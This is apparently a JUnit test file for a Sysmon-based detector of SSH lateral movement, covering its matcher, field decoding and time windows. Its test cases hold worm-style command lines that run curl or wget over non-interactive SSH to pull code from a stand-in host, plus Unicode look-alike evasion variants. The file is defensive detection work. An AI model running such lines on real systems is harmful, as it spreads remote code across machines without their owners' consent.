package org.sshlateral.kstreams;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.time.Duration;
import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The matcher, field extractor and window alignment, without a broker. */
class DetectionTest {

    /** A Sysmon EventID 1 line as Sysmon for Linux writes it, behind a syslog header. */
    static String line(String image, String cmd, String user) {
        return "2026-11-02T10:02:00.152000+00:00 web-01 sysmon: <Event><System><EventID>1</EventID>"
                + "<TimeCreated SystemTime=\"2026-11-02T10:02:00.152000000Z\"/><Computer>web-01</Computer></System><EventData>"
                + "<Data Name=\"UtcTime\">2026-11-02 10:02:00.000</Data><Data Name=\"ProcessId\">41007</Data>"
                + "<Data Name=\"Image\">" + image + "</Data><Data Name=\"CommandLine\">" + cmd + "</Data>"
                + (user == null ? "" : "<Data Name=\"User\">" + user + "</Data>")
                + "<Data Name=\"ParentProcessId\">41014</Data><Data Name=\"ParentImage\">/usr/bin/bash</Data></EventData></Event>";
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "worm line                     | /usr/bin/ssh | ssh -oBatchMode=yes 10.0.1.20 curl -o- http://x/ks &amp;&gt;/dev/null | true",
        "upper case                    | /usr/bin/SSH | SSH -OBATCHMODE=YES h2 CURL HTTPS://X/ | true",
        "https only                    | /usr/bin/ssh | ssh -oConnectTimeout=3 h wget https://x/ | true",
        "spaced -o is not ESCU         | /usr/bin/ssh | ssh -o StrictHostKeyChecking=no h curl http://x/ | false",
        "no scheme                     | /usr/bin/ssh | ssh -oBatchMode=yes backup@10.0.0.9 uptime | false",
        "not ssh                       | /usr/bin/scp | scp -oBatchMode=yes http://x/ y: | false",
        "path is not the name          | /usr/bin/sshd | sshd -oBatchMode=yes http://x/ | false",
        "long s is not s               | /usr/bin/\u017Fsh | \u017Fsh -oBatchMode=yes http://x/ | false",
        "Kelvin sign is not k          | /usr/bin/ssh | ssh -oStrictHost\u212AeyChecking=no h http://x/ | false",
    })
    void matches(String name, String image, String cmd, boolean want) {
        assertEquals(want, Detection.match(line(image, cmd, "root")) != null, name);
    }

    @Test
    void groupFieldsAreDecodedAndMissingIsNull() {
        Detection.Group g = Detection.match(line("/usr/bin/ssh", "ssh -oBatchMode=yes h curl http://x/ &amp;&gt;/dev/null &#38;", null));
        assertEquals(new Detection.Group("web-01", "null", "bash", "ssh",
                "ssh -oBatchMode=yes h curl http://x/ &>/dev/null &", "41007", "41014"), g);
        assertEquals(g, Detection.Group.decode(g.encode()));
    }

    @Test
    void eventTimeIsUtcTime() {
        assertEquals(Instant.parse("2026-11-02T10:02:00Z").toEpochMilli(),
                Sysmon.eventTimeMillis(line("/usr/bin/ls", "ls", "root")));
        assertEquals(-1, Sysmon.eventTimeMillis("<Event><EventData><Data Name=\"UtcTime\">yesterday</Data></EventData></Event>"));
        assertEquals(-1, Sysmon.eventTimeMillis("<Event><EventData><Data Name=\"UtcTime\">+999999999-12-31 23:59:59.999</Data></EventData></Event>"));
        assertEquals(-1, Sysmon.eventTimeMillis("<Event><System><TimeCreated SystemTime=\"+1000000000-12-31T23:59:59Z\"/></System></Event>"));
        assertNull(Detection.match("garbage"));
    }

    @ParameterizedTest
    @CsvSource({
        "2026-11-02T10:49:59.999Z, 2026-11-02T09:50:00Z",
        "2026-11-02T10:50:00Z,     2026-11-02T10:50:00Z",
        "2026-11-02T10:00:00Z,     2026-11-02T09:50:00Z",
    })
    void windowsStartAtFifty(String at, String start) {
        AlignedWindows w = new AlignedWindows(Duration.ofHours(1), Duration.ofMinutes(50), Duration.ofMinutes(10));
        long ts = Instant.parse(at).toEpochMilli();
        assertEquals(Instant.parse(start).toEpochMilli(), w.startOf(ts));
        assertEquals(w.startOf(ts) + 3_600_000, w.windowsFor(ts).get(w.startOf(ts)).end());
    }

    @Test
    void aWindowBeforeTheEpochIsNoWindow() {
        AlignedWindows w = new AlignedWindows(Duration.ofHours(1), Duration.ofMinutes(50), Duration.ofMinutes(10));
        assertEquals(0, w.windowsFor(Instant.parse("1970-01-01T00:10:00Z").toEpochMilli()).size());
        assertEquals(1, w.windowsFor(Instant.parse("1970-01-01T00:50:00Z").toEpochMilli()).size());
    }
}
